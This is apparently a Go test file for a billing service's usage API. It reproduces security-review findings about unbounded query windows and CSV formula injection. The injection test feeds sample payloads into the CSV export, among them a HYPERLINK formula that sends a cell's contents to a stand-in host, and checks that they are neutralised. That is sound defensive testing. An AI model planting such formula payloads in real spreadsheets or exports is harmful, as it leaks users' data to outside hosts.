package transport_test

// Reproductions of the billing review's findings about the usage API.

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/modelport/modelport/libs/events"
	"github.com/modelport/modelport/libs/state"
	"github.com/modelport/modelport/services/billing/internal/billing"
)

// Finding 8: a usage query may cover any window, 1970 to 2105, whatever
// its grouping.
func TestReview8UsageWindowsAreBounded(t *testing.T) {
	e := newEnv(t)
	now := time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC)
	e.serve(e.billing(e.store, billing.WithClock(func() time.Time { return now })))
	svc := e.service(e.alice, state.BillingPerToken, now.AddDate(-3, 0, 0))
	for _, group := range []string{"", "day", "api_key", "hour"} {
		status, _, body := e.get("/api/v1/usage?service_id="+svc.ID+"&from=1970-01-01T00:00:00Z&to=2105-12-31T00:00:00Z&group_by="+group, e.aliceKey)
		if status != http.StatusBadRequest {
			t.Errorf("group_by=%q over 135 years: status %d, want 400: %s", group, status, body)
		}
	}
}

// Finding 9: event-supplied strings reach the CSV export as they are, so
// a spreadsheet would run them as formulas.
func TestReview9CSVCellsAreNotFormulas(t *testing.T) {
	e := newEnv(t)
	t0 := time.Date(2025, 5, 1, 10, 0, 0, 0, time.UTC)
	e.serve(e.billing(e.store, billing.WithClock(func() time.Time { return t0.Add(2 * time.Hour) })))
	svc := e.service(e.alice, state.BillingPerToken, t0)
	bad := []string{`=HYPERLINK("http://x/?"&A1)`, "+1+2", "-3", "@SUM(A1)", "\tx", "\rx"}
	var evs []events.RequestCompletedV1
	for _, k := range bad {
		evs = append(evs, usageEvent(svc, k, 10, 10, t0.Add(time.Minute)))
	}
	if err := e.store.InsertUsage(e.ctx, evs); err != nil {
		t.Fatal(err)
	}
	status, _, body := e.get("/api/v1/usage/export.csv?service_id="+svc.ID+"&group_by=api_key", e.aliceKey)
	if status != http.StatusOK {
		t.Fatalf("status %d: %s", status, body)
	}
	recs, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(bad)+1 {
		t.Fatalf("%d rows, want %d: %q", len(recs)-1, len(bad), recs)
	}
	for _, r := range recs[1:] {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would be a formula", cell)
			}
		}
	}
}
